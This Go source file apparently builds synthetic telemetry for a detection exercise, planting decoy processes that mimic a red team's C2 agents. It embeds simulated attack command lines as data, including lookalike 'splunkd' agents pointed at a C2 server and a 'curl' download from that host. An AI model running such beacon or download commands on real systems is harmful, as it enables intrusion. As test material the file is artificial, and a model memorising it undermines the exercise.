package main

import (
	"fmt"
	"time"
)

// setDecoys adds what looks like the red team's and must not be found.
func setDecoys(w *world, f *fleet, c *campaign) {
	d := &decoys{w: w, f: f, c: c}
	d.likeNames()
	d.samePIDElsewhere()
	d.reusedPIDs()
	d.execAway()
	d.sameFlows()
}

// decoys is the scene of setDecoys.
type decoys struct {
	w *world
	f *fleet
	c *campaign
}

// toC2 is traffic to the C2 server that no finding holds, on a flow of its own.
func (d *decoys) toC2(p *process, at time.Time, port int) {
	d.w.connect(d.c.r, p, at, tcp(p.host.ip, port, c2IP, c2Port))
}

// likeNames: equality is exact and knows case.
func (d *decoys) likeNames() {
	names := []string{"splunkd-helper", "Splunkd", "SPLUNKD", "splunkd ", "xsplunkd", "splunk", "splunkd.sh"}
	for i, h := range []*host{d.f.target, d.f.hosts[2], d.f.hosts[7]} {
		for j, name := range names {
			at := moment(d.c.r, ordersStart, ordersStop)
			p := d.w.run(h.since["systemd"], at, image{name, "/opt/" + name, name + " -server http://192.168.56.150:8888"})
			d.toC2(p, at.Add(time.Second), 43000+10*i+j)
			child := d.w.run(p, at.Add(time.Minute), image{"curl", "/usr/bin/curl", "curl http://192.168.56.150:8888/z"})
			d.toC2(child, at.Add(61*time.Second), 43100+10*i+j)
		}
	}
}

// samePIDElsewhere: on two other hosts, processes with the pids of the agents, started in the
// same instants, with traffic and children at the times of the agents' own.
func (d *decoys) samePIDElsewhere() {
	for i, agent := range []*process{d.c.container, d.c.host} {
		h := d.f.hosts[2+2*i]
		p := d.w.child(h.since["systemd"])
		p.takePID(agent)
		d.w.exec(p, agent.first, image{"rsync", "/usr/bin/rsync", "rsync --daemon # not 192.168.56.150"})
		if i == 1 {
			d.toC2(p, firstMDNS, 43200)
		}
		for n := range 60 {
			d.toC2(p, firstMDNS.Add(time.Duration(n)*time.Hour), 43201+100*i+n)
			child := d.w.run(p, firstMDNS.Add(time.Duration(n)*time.Hour+time.Minute), image{"ssh", "/usr/bin/ssh", "ssh web-01"})
			d.toC2(child, firstMDNS.Add(time.Duration(n)*time.Hour+2*time.Minute), 43401+100*i+n)
		}
	}
}

// reusedPIDs: three pids of watchdogs live on. One is mentioned again after a day of silence,
// one after its end, both by records that know nothing but the pid; one is given to another
// program, which has children.
func (d *decoys) reusedPIDs() {
	follow := func(i int, after time.Duration) (*process, time.Time) {
		old := d.c.watchdogs[i]
		p := d.w.child(d.f.target.since["systemd"])
		p.takePID(old.agent)
		return p, old.agent.last.Add(after)
	}
	for _, life := range []struct {
		watchdog int
		after    time.Duration
	}{{silentReuseLife, 30 * time.Hour}, {endedReuseLife, 10 * time.Minute}} {
		p, at := follow(life.watchdog, life.after)
		for n := range 5 {
			f := tcp(targetIP, 44000+life.watchdog+n, c2IP, c2Port)
			d.w.connect(d.c.r, p, at.Add(time.Duration(n)*time.Minute), f).knows = bare
		}
	}
	p, at := follow(createdReuseLife, 20*time.Minute)
	d.w.exec(p, at, image{"node", "/usr/bin/node", "node /srv/app.js"})
	for n := range 5 {
		at = at.Add(time.Minute)
		d.toC2(p, at, 44100+n)
		child := d.w.run(p, at.Add(time.Second), image{"node", "/usr/bin/node", fmt.Sprintf("node worker.js %d", n)})
		d.toC2(child, at.Add(2*time.Second), 44110+n)
	}
}

// execAway: a watchdog that becomes another program long after its start. Its second creation
// is a new lifetime.
func (d *decoys) execAway() {
	p := d.c.watchdogs[execAwayLife].agent
	at := p.last.Add(2 * time.Minute)
	d.w.exec(p, at, image{"python3", "/usr/bin/python3.10", "python3 -m http.server"})
	for n := range 3 {
		d.toC2(p, at.Add(time.Duration(n+1)*time.Minute), 44200+n)
	}
}

// sameFlows: the flows of the findings on other processes, before and after. A flow is one
// entity wherever it is seen, but only the right processes' records count, also for the
// order in which flows were first observed.
func (d *decoys) sameFlows() {
	dockerd := d.f.target.since["dockerd"]
	for _, f := range []*flow{
		tcp(containerIP, 38538, "65.8.66.113", 443), tcp(containerIP, 38524, "140.82.113.4", 443),
		tcp(containerIP, 38550, "192.168.56.2", 3128), tcp(containerIP, 49738, c2IP, c2Port),
	} {
		for range 3 {
			d.w.connect(d.c.r, dockerd, moment(d.c.r, getStart, utc(time.July, 27, 0, 0)), f)
			d.w.connect(d.c.r, dockerd, moment(d.c.r, ordersStart, getStop), f)
		}
	}
}
